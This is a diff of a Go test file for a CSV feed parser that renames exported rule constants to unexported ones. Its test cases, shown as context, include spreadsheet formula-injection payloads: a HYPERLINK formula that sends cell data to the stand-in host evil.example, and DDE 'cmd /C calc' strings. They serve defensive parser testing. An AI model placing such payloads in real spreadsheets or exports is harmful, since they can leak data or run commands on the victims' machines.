@@ -72,7 +72,7 @@ func hostileCases(t *testing.T, xxeURL string) []hostileCase {
 		{name: "invalid UTF-8 in every field, detected", file: "invalid-utf8.csv", items: 2, diags: []string{"encoding.detected:info"},
 			check: values(map[int]map[string]string{0: {"title": "Café Ã"}, 1: {"description": "naïveõ"}})},
 		{name: "invalid UTF-8 in every field, --encoding utf-8", file: "invalid-utf8.csv", opts: ReadOptions{Encoding: "utf-8"}, items: 2,
-			rules: []string{RuleInvalidUTF8, RuleInvalidUTF8, RuleInvalidUTF8, RuleInvalidUTF8, RuleInvalidUTF8, RuleInvalidUTF8},
+			rules: []string{ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8, ruleInvalidUTF8},
 			check: func(t *testing.T, res readResult) {
 				if p := res.items[0].Problems[1]; p.Field != "title" || p.Value != `Caf\xe9 \xc3` {
 					t.Errorf("problem %+v", p)
@@ -89,9 +89,9 @@ func hostileCases(t *testing.T, xxeURL string) []hostileCase {
 				}
 			}},
 		{name: "binary file named .csv", file: "binary.csv", openErr: "cannot detect the feed format (binary data)", unsupported: true},
-		{name: "unterminated quote", file: "unterminated-quote.csv", items: 1, rules: []string{RuleCSVSyntax},
+		{name: "unterminated quote", file: "unterminated-quote.csv", items: 1, rules: []string{ruleCSVSyntax},
 			check: values(map[int]map[string]string{0: {"description": "starts a quote that never ends\nSKU-2,Throw,fine\nSKU-3,Tee,fine\n"}})},
-		{name: "formula injection read verbatim", file: "formula-injection.csv", items: 5, rules: []string{RuleCSVSyntax},
+		{name: "formula injection read verbatim", file: "formula-injection.csv", items: 5, rules: []string{ruleCSVSyntax},
 			check: values(map[int]map[string]string{
 				0: {"title": `=HYPERLINK("http://evil.example/?x="&A1,"Click")`},
 				1: {"title": "+cmd|' /C calc'!A0", "description": "@SUM(1+1)*cmd|' /C calc'!A0"},
@@ -487,7 +487,7 @@ func TestHostileMemory(t *testing.T) {
 		if res.err != nil || len(res.items) != 2 || len(res.cols) != n || len(res.items[0].Fields) != n || res.cols[n-1] != "c999999" {
 			t.Fatalf("err %v items %d cols %d", res.err, len(res.items), len(res.cols))
 		}
-		if got := rules(res.items); !reflect.DeepEqual(got, []string{RuleCSVColumnCount}) {
+		if got := rules(res.items); !reflect.DeepEqual(got, []string{ruleCSVColumnCount}) {
 			t.Errorf("problems %v", got)
 		}
 		res = readResult{}
